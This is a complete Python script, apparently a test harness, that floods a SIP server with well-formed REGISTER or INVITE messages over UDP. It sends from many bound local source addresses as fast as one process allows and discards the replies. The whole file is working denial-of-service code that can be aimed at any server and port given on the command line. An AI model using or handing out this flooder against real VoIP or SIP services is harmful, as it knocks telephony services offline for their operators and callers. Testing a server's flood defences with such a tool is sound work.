"""A flood of SIP, as a process of its own: `python flood.py METHOD SERVER PORT NETWORK SOURCES SECONDS`.

Each source is an address of its own, which must be this machine's; what comes back is thrown away, as a flooder does.
Prints `flooding` when it begins, and how many packets it has sent when it ends.
"""

import ipaddress
import itertools
import socket
import sys
import time


def message(method: str, number: int, host: str) -> bytes:
    """Right in every way but that nobody knows the sender."""
    uri = "sip:127.0.0.1" if method == "REGISTER" else "sip:88007707999@127.0.0.1"
    return (
        f"{method} {uri} SIP/2.0\r\nVia: SIP/2.0/UDP {host}:5060;rport;branch=z9hG4bKf{number}\r\nMax-Forwards: 70\r\n"
        f"From: <sip:{1000 + number % 9000}@127.0.0.1>;tag={number}\r\nTo: <{uri}>\r\nCall-ID: f{number}@{host}\r\n"
        f"CSeq: 1 {method}\r\nContact: <sip:x@{host}>\r\nContent-Length: 0\r\n\r\n"
    ).encode()


def main(method: str, server: str, port: int, network: str, sources: int, seconds: float) -> None:
    """Send as fast as one process can."""
    hosts = [str(host) for host in itertools.islice(ipaddress.ip_network(network).hosts(), sources)]
    sockets = []
    for host in hosts:
        sockets.append(socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
        sockets[-1].bind((host, 0))
    print("flooding", flush=True)
    ends_at = time.monotonic() + seconds
    for number in itertools.count():
        if time.monotonic() > ends_at:
            break
        which = number % sources
        sockets[which].sendto(message(method, number, hosts[which]), (server, port))
    print(number)


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4], int(sys.argv[5]), float(sys.argv[6]))
